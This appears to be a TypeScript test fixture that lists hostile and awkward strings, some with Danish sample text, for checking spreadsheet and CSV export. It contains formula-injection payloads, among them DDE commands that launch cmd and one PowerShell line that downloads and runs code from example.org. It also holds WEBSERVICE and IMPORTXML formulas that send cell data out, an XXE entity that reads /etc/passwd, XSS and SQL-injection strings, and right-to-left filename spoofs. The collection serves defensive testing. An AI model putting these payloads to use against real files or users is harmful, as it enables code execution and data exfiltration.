// What somebody could write, or have been made to paste, into a cell that another person opens in a spreadsheet.

const formulas = [
  '=1+1',
  '=-1',
  '=SUM(A1:A9)',
  '=A1',
  '=HYPERLINK("http://example.org/?"&A1;"Klik her")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget example.org/x)'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=IMPORTXML(CONCAT("http://example.org/";A1);"//a")',
  '=IMPORTDATA("http://example.org/")',
  '=FILTERXML("<a/>";"//a")',
  '=INDIRECT("A1")',
  '={1;2}',
  '=1+1;=1+1',
  '="a"&"b"',
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '+A1',
  '-A1',
  '--1',
  '+-@=',
  '=',
  '+',
  '-',
  '@',
];

const readable = [
  '+45 75 00 00 00',
  '- kan sidde',
  '-5 kg, ikke mere',
  '+ god dag',
  '@arbejdspladsen',
  '= det samme som før',
  '- punkt et\n- punkt to\n- punkt tre',
  'Kan sidde - kort',
];

const hiding = [
  ' ',
  '   ',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u2066',
  '\u00ad',
  '\n',
  '\t',
  '\r',
  '\r\n',
  '\0',
  '\u0001',
  '\u001b',
];
const hidden = [...hiding.map((blank) => `${blank}=1+1`), ...hiding.slice(0, 6).map((blank) => `${blank}-kan`)];

const wide = [
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫A1',
  ' ＝1+1',
  '\u3000＠A1',
  '−1 er et minustegn',
  '–1 er en tankestreg',
];

const quotes = [
  '"',
  '""',
  '"""',
  '"=1+1"',
  '";"',
  '";=1+1;"',
  'a"b',
  '"a',
  'a"',
  "'",
  "''",
  "'=1+1",
  "''=1+1",
  "'s morgens",
  '“citat” og »citat«',
  '`kode`',
];

const separators = [';', ';;;', ',', '\t', '|', 'a;b', ';a', 'a;', 'a\tb', 'a,b', 'sep=;', '1;2;3'];

const lines = [
  'to\nlinjer',
  'to\r\nlinjer',
  'to\rlinjer',
  '\nforan',
  'bagved\n',
  '\r\nforan',
  'bagved\r\n',
  '\n\n\n',
  'a\n=1+1',
  'a\r\n;"\r\n=1+1',
  'a\u2028b',
  'a\u2029b',
  'a\u0085b',
  'a\vb',
  'a\fb',
];

const controls = [
  'a\0b',
  '\0',
  '\0\0=1',
  'a\u0001b',
  'a\u0007b',
  'a\bb',
  'a\u001bb',
  'a\u001fb',
  'a\u007fb',
  'a\u009fb',
  '\u001b[31mrød\u001b[0m',
];

const pictures = ['🙂', '👩‍👩‍👧‍👦', '👨🏽‍🔧', '🏳️‍🌈', '🇩🇰', '1️⃣', '🦔🦔🦔', '=🙂', '🙂;"🙂"\n🙂', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢', '𠮷野家'];

const directions = [
  'שלום',
  'مرحبا بالعالم',
  'a \u202eb\u202c c',
  '\u202ecod.fdp',
  '\u2066=1+1\u2069',
  '\u200fא',
  'אבג =1+1',
  '=שלום',
  '\u061c؟',
  'fil\u202exslx.exe',
];

const combined = ['e\u0301', 'A\u030a', 'o\u0338', 'Z̸a̵l̶g̷o̴', '각', 'ﬁ', 'Å', '=\u0301', '\u0301=1', 'ǅ', 'ß', 'ı İ'];

const figures = [
  '0101805016',
  '00123',
  '1,5',
  '1.5',
  '1E5',
  '1-2',
  '3/4',
  '10 %',
  'kr. 5',
  '2026-11-20',
  '20-11-2026',
  '12:30',
  'SAND',
  'TRUE',
  '#N/A',
  '#REF!',
  'NaN',
  'null',
  'undefined',
  '12345678901234567890',
];

const marks = [
  '<f>1+1</f>',
  ']]>',
  '&#61;1+1',
  '&amp;',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '<script>alert(1)</script>',
  '_x003D_1+1',
  '_x005F_x003D_',
  '_x0000_',
  '\\u0000',
  '{"a":1}',
  '\\',
  '${1+1}',
  '%s %n',
  "'); DROP TABLE courses; --",
  '\\\\server\\mappe',
  'file:///C:/Windows',
  'javascript:alert(1)',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
];

const broken = ['her \ud83d', '\udd94 her', '=\ud83d', '\ufffd', '\ufffe', '\uffff'];

const kibibytes64 = 64 * 1024;
const long = [
  'x'.repeat(kibibytes64),
  `=${'1+'.repeat(kibibytes64 / 2)}1`,
  'æ'.repeat(kibibytes64 / 2),
  '🦔'.repeat(kibibytes64 / 4),
  '";\r\n'.repeat(kibibytes64 / 4),
  'ord og ord '.repeat(kibibytes64 / 11),
];

/** Texts that were written to be taken for something else, or to break what reads them; each of them is text. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...formulas,
    ...readable,
    ...hidden,
    ...wide,
    ...quotes,
    ...separators,
    ...lines,
    ...controls,
    ...pictures,
    ...directions,
    ...combined,
    ...figures,
    ...marks,
    ...broken,
    ...long,
  ]),
];
